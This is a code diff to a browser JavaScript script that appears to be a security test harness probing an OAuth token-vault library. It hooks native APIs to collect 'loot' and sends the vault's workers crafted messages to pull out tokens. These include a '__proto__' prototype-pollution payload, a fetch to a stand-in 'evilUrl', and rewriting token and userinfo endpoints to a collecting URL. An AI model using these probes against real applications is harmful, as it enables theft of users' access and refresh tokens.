@@ -8,9 +8,13 @@
   const push = Array.prototype.push;
   const native = { fetch: window.fetch.bind(window), Worker: window.Worker, SharedWorker: window.SharedWorker, MessageChannel, BroadcastChannel, setTimeout: window.setTimeout.bind(window), Response, Request, Blob };
   const loot = (window.loot = {});
+  /** Workers that the page's code has begun. */
+  const begun = [];
   const decoder = new TextDecoder();
   const decode = decoder.decode;
   let busy = false;
+  /** The attempt that alone writes down what it sees: it gets by itself what others would see. */
+  let only;
 
   /** All text in a value, and that a private key is among it. */
   const texts = (value, depth = 0, out = []) => {
@@ -37,7 +41,7 @@
   };
 
   const see = (name, ...values) => {
-    if (busy) return;
+    if (busy || (only && name !== only)) return;
     busy = true;
     const list = (loot[name] ??= []);
     for (const text of texts(values)) if (list.length < 20_000) push.call(list, text);
@@ -47,6 +51,7 @@
   /** Puts a function in the place of another, which sees its arguments and what comes of it. */
   const hook = (name, of, ...members) => {
     loot[name] ??= [];
+    const isWorker = name.endsWith('Worker');
     for (const member of members) {
       const own = Object.getOwnPropertyDescriptor(of, member);
       if (!own || typeof own.value !== 'function') continue;
@@ -55,6 +60,7 @@
         see(name, this === window ? undefined : args, ...args);
         const result = new.target ? Reflect.construct(before, args, new.target === spy ? before : new.target) : apply(before, this, args);
         see(name, result);
+        if (isWorker && new.target) push.call(begun, result);
         if (result instanceof Promise) apply(then, result, [(value) => see(name, value), (error) => see(name, error)]);
         return result;
       };
@@ -172,13 +178,19 @@
     { config: { insecureTokenAccess: true } }, { options: { insecureTokenAccess: true } }, { insecureTokenAccess: true }, { open: {} }, { hooks: {} }, { hello: true }, { load: 'session' },
     parse('{"__proto__":{"insecureTokenAccess":true}}'), { command: 'token', insecureTokenAccess: true },
     { fetch: { url: window.apiUrl, method: 'GET', headers: [] } },
+    ...(window.words ?? []),
     { fetch: { url: `${window.evilUrl}/evil`, method: 'GET' } }, { fetch: { url: window.tokenUrl, method: 'POST', body: 'grant_type=refresh_token' } }, { pull: true }, { abort: true }, null, 'token', 7,
   ];
-  const talk = async (name, port, post) => {
-    port.onmessage = ({ data }) => see(name, data);
+  /** Says all of them to whatever takes messages, each with a port for who answers by one. */
+  const talk = async (name, port) => {
+    port.addEventListener('message', ({ data }) => see(name, data));
     port.start?.();
     let id = 1e6;
-    for (const message of messages()) post(message && typeof message === 'object' ? { ...message, id: id++ } : message);
+    for (const message of messages()) {
+      const { port1, port2 } = new native.MessageChannel();
+      port1.onmessage = ({ data }) => see(name, data);
+      port.postMessage(message && typeof message === 'object' ? { ...message, id: id++ } : message, [port2]);
+    }
     await wait(2_500);
   };
 
@@ -227,11 +239,15 @@
     },
     'reads history, name, referrer and resource timings': (name) => see(name, history.state, window.name, document.referrer, location.href, performance.getEntries().map((entry) => entry.name)),
     'asks the client for tokens': (name) =>
-      tryAll(name, ['token', 'export', 'tokenExchange', 'introspect', 'register', 'clientCredentials', 'getTokenSilently', 'getAccessToken'].map((member) => () => window.client[member]?.())),
+      tryAll(name, ['token', 'export', 'tokenExchange', 'introspect', 'register', 'clientCredentials', 'getTokenSilently', 'getAccessToken', 'getValidTokenAsync'].map((member) => () => window.client[member]?.())),
     'asks the client for everything else': (name) =>
-      tryAll(name, ['status', 'userinfo', 'profile', 'authorize', 'refresh', 'resourceMetadata', 'getUser', 'getIdTokenClaims'].map((member) => () => window.client[member]?.({ url: window.apiUrl }))),
+      tryAll(name, ['status', 'userinfo', 'profile', 'authorize', 'refresh', 'resourceMetadata', 'getUser', 'getIdTokenClaims', 'userInfoAsync'].map((member) => () => window.client[member]?.({ url: window.apiUrl }))),
     'looks into the client': (name) => {
-      for (let of = window.client; of && of !== Object.prototype; of = Object.getPrototypeOf(of)) see(name, Object.getOwnPropertyDescriptors(of));
+      for (let of = window.client; of && of !== Object.prototype; of = Object.getPrototypeOf(of)) {
+        const members = Object.getOwnPropertyDescriptors(of);
+        see(name, members);
+        for (const [member, { get }] of Object.entries(members)) if (get && member !== '__proto__') see(name, window.client[member]);
+      }
       see(name, window.client);
     },
     'imports the library and uses its inside': async (name) => {
@@ -244,21 +260,39 @@
       }
     },
     'imports the vault into the page': (name) => tryAll(name, [() => import(window.vaultUrl)]),
+    'speaks to the workers that the page\u2019s code began': async (name) => {
+      for (const worker of begun) await talk(name, worker.port ?? worker);
+    },
+    'renames an endpoint of the server, in messages of the library\u2019s own kind': async (name) => {
+      only = name;
+      await tryAll(name, window.tricks ?? [
+        async () => {
+          const renamed = { ...window.clientConfig, token_destinations: [window.tokenUrl], revocation_endpoint: window.tokenUrl, userinfo_endpoint: window.tokenUrl };
+          const { port } = native.SharedWorker ? new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true }) : { port: new native.Worker(window.vaultUrl, { type: 'module' }) };
+          port.addEventListener('message', ({ data }) => see(name, data));
+          port.start?.();
+          for (const message of [{ config: renamed }, { id: 1, command: 'open', parameters: { config: renamed } }, { id: 2, command: 'userinfo', config: renamed }]) port.postMessage(message);
+          port.postMessage({ id: 3, fetch: { url: window.tokenUrl, method: 'POST', headers: [['content-type', 'application/x-www-form-urlencoded']], body: 'grant_type=refresh_token' } });
+          await wait(1_000);
+        },
+      ]);
+      only = undefined;
+    },
     'opens a line of its own to the shared worker': async (name) => {
       if (!native.SharedWorker) return;
       for (const more of [{}, { extendedLifetime: true }]) {
         const { port } = new native.SharedWorker(window.vaultUrl, { type: 'module', ...more });
-        await talk(name, port, (message) => port.postMessage(message));
+        await talk(name, port);
       }
     },
     'begins a worker of the vault': async (name) => {
       const worker = new native.Worker(window.vaultUrl, { type: 'module' });
-      await talk(name, worker, (message) => worker.postMessage(message));
+      await talk(name, worker);
     },
     'begins a worker of the vault by another URL of it': async (name) => {
       for (const more of ['?x', '#x']) {
         const worker = new native.Worker(window.vaultUrl + more, { type: 'module', name: 'insecureTokenAccess' });
-        await talk(name, worker, (message) => worker.postMessage(message));
+        await talk(name, worker);
       }
     },
     'runs the vault in a worker of its own with another fetch': async (name) => {
@@ -282,7 +316,7 @@
       for (const registration of (await navigator.serviceWorker?.getRegistrations()) ?? []) {
         const { port1, port2 } = new native.MessageChannel();
         port1.onmessage = ({ data }) => see(name, data);
-        for (const message of messages()) registration.active?.postMessage(message);
+        if (registration.active) await talk(name, Object.assign(new EventTarget(), { postMessage: (...args) => registration.active.postMessage(...args) }));
         registration.active?.postMessage({ load: 'session' }, [port2]);
       }
       await wait(1_000);
